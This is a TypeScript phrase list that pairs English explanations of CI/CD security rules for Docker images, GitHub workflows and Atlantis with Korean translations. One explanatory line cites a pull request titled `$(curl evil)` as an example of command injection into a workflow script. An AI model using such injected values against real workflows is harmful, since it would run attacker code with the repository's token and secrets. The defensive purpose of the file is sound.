import type { PhraseList } from '../../Phrases';

/** What the rules about images, workflows and Atlantis ask for, and why. */
export const WORKFLOWS: PhraseList = {
  sentences: {
    'A Dockerfile is one that can be built':
      'Dockerfile은 빌드할 수 있어야 합니다',
    'The build fails only after the merge, when the pull request is forgotten.':
      '풀 리퀘스트가 잊힌 병합 이후에야 빌드가 실패합니다.',
    'An image is built from a tag or digest that is not latest':
      '이미지는 latest가 아닌 태그나 다이제스트에서 빌드되어야 합니다',
    'Without one, the same commit builds something else tomorrow, and nobody can say what runs.':
      '그렇지 않으면 같은 커밋이라도 내일은 다른 것이 빌드되고, 무엇이 실행되는지 알 수 없습니다.',
    'The last stage of an image runs as a user who is not root':
      '이미지의 마지막 스테이지는 root가 아닌 사용자로 실행되어야 합니다',
    'Whoever breaks into a process that runs as root has the rights of root; Kubernetes refuses to start it here.':
      'root로 실행되는 프로세스에 침입한 공격자는 root의 권한을 갖습니다. 이 플랫폼의 Kubernetes는 그런 이미지의 실행을 거부합니다.',
    'No secret is built into an image':
      '이미지에 비밀 정보가 포함되지 않아야 합니다',
    'Whoever can pull the image can read it, in every layer, also where a later instruction deletes it.':
      '이후 명령에서 삭제하더라도 이미지를 받을 수 있는 사람은 누구나 모든 레이어에서 읽을 수 있습니다.',
    'ADD takes nothing from the network without a checksum':
      'ADD는 체크섬 없이 네트워크에서 파일을 가져오지 않아야 합니다',
    'What lies at an address today may be something else tomorrow, and it goes into the image unseen.':
      '오늘 그 주소에 있는 것이 내일은 달라질 수 있고, 아무도 확인하지 않은 채 이미지에 들어갑니다.',

    'Every workflow is one that GitHub accepts':
      '모든 워크플로는 GitHub에서 허용되어야 합니다',
    'GitHub runs nothing of a workflow that it cannot read, and says so only where nobody looks: the checks of a pull request are then simply not there.':
      'GitHub은 읽을 수 없는 워크플로를 전혀 실행하지 않으며, 아무도 보지 않는 곳에만 표시합니다. 풀 리퀘스트의 검사가 그냥 나타나지 않습니다.',
    'Workflows use actions of others by full commit id':
      '워크플로는 외부 액션을 전체 커밋 ID로 지정해야 합니다',
    'A tag can be moved: whoever takes over an action’s repository then runs code in ours. A commit id names one content for ever.':
      '태그는 옮길 수 있으므로, 액션의 저장소를 탈취한 사람이 우리 저장소에서 코드를 실행하게 됩니다. 커밋 ID는 언제나 같은 내용을 가리킵니다.',
    'Every workflow says what its token may do, and that is not everything':
      '모든 워크플로에는 토큰의 권한이 선언되어야 하며, 모든 권한을 주어서는 안 됩니다',
    'Without the key the token has whatever the repository’s settings give it, often the right to write everywhere; every action of the workflow has it too.':
      '선언이 없으면 토큰은 저장소 설정에 따른 권한을 가지며, 어디든 쓸 수 있는 권한인 경우가 많습니다. 워크플로의 모든 액션도 같은 권한을 갖습니다.',
    'A workflow with secrets checks out no code of a pull request':
      '비밀 정보가 있는 워크플로는 풀 리퀘스트의 코드를 체크아웃하지 않아야 합니다',
    'pull_request_target and workflow_run start with the repository’s own token and secrets: whoever opens a pull request would decide what runs with them.':
      'pull_request_target과 workflow_run은 저장소의 토큰과 비밀 정보를 가지고 시작됩니다. 풀 리퀘스트를 연 사람이 그 권한으로 실행될 코드를 정하게 됩니다.',
    'No workflow puts text of strangers into a script':
      '워크플로는 외부인이 작성한 텍스트를 스크립트에 넣지 않아야 합니다',
    'GitHub replaces the expression before the shell starts: a pull request titled `$(curl evil)` runs on the runner, with its token and its secrets.':
      'GitHub은 셸이 시작되기 전에 표현식을 치환합니다. 제목이 `$(curl evil)`인 풀 리퀘스트가 러너의 토큰과 비밀 정보를 가지고 실행됩니다.',
    'No workflow writes a secret into a script or its log':
      '워크플로는 비밀 정보를 스크립트나 로그에 쓰지 않아야 합니다',
    'A secret in the script is on the disk and in the process list; GitHub hides it in the log only as long as it is printed exactly as it is.':
      '스크립트에 넣은 비밀 정보는 디스크와 프로세스 목록에 남습니다. GitHub은 원래 값 그대로 출력된 경우에만 로그에서 가립니다.',
    'atlantis.yaml is one that Atlantis accepts':
      'atlantis.yaml은 Atlantis에서 허용되어야 합니다',
    'One unknown key or wrong folder, and Atlantis plans nothing at all: every pull request with Terraform waits.':
      '알 수 없는 키나 잘못된 폴더가 하나라도 있으면 Atlantis는 플랜을 전혀 실행하지 않으며, Terraform이 있는 모든 풀 리퀘스트가 대기합니다.',
    'The folder of every project in atlantis.yaml exists':
      'atlantis.yaml에 있는 모든 프로젝트의 폴더는 실제로 있어야 합니다',
    'Atlantis fails to plan a folder that is not there, and what has moved to another folder is planned no more.':
      'Atlantis는 없는 폴더의 플랜에 실패하고, 다른 폴더로 옮긴 것은 더 이상 플랜이 실행되지 않습니다.',
    'Atlantis plans the Terraform of every cluster by itself':
      'Atlantis는 모든 클러스터의 Terraform 플랜을 자동으로 실행해야 합니다',
    'What no project plans is merged without a plan that anybody could have read, and never applied.':
      '플랜을 실행하는 프로젝트가 없으면 아무도 플랜을 읽지 못한 채 병합되고 적용되지 않습니다.',
    'A change of the shared Terraform module is planned in every cluster':
      '공유 Terraform 모듈이 변경되면 모든 클러스터에서 플랜이 실행되어야 합니다',
    'The module is code of every cluster that calls it: a change that no cluster plans shows its effect only with the next, unrelated pull request.':
      '모듈은 호출하는 모든 클러스터의 코드입니다. 플랜이 실행되지 않은 변경의 영향은 다음의 관련 없는 풀 리퀘스트에서야 드러납니다.',
    'Atlantis applies the Terraform of a cluster only when somebody approved it':
      'Atlantis는 승인된 경우에만 클러스터의 Terraform을 적용해야 합니다',
    'Whoever may comment on a pull request may have Atlantis apply it: without the requirement a plan that nobody read changes what customers use.':
      '풀 리퀘스트에 댓글을 달 수 있는 사람은 누구나 Atlantis에서 적용을 실행할 수 있습니다. 승인 요건이 없으면 아무도 읽지 않은 플랜이 고객이 사용하는 환경을 바꿉니다.',
  },
};
